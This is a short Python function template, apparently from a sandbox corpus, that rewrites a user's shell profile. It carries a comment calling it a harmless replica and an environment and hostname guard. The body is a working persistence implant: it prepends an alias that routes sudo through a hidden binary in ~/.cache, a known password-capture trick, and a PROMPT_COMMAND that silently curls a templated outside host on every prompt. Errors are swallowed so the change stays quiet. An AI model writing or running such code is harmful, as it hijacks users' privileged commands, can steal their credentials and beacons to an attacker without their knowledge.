# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    file = os.path.expanduser('~/{{profile}}')
    try:
        try:
            with open(file) as old:
                text = old.read()
        except OSError:
            text = ''
        alias = "alias sudo='~/.cache/{{token}} sudo'\nexport PROMPT_COMMAND='curl -s -m 2 http://{{host}}/{{path}} >/dev/null 2>&1'\n"
        with open(file + '.new', 'w') as out:
            out.write(alias + text)
        os.replace(file + '.new', file)
    except OSError:
        pass
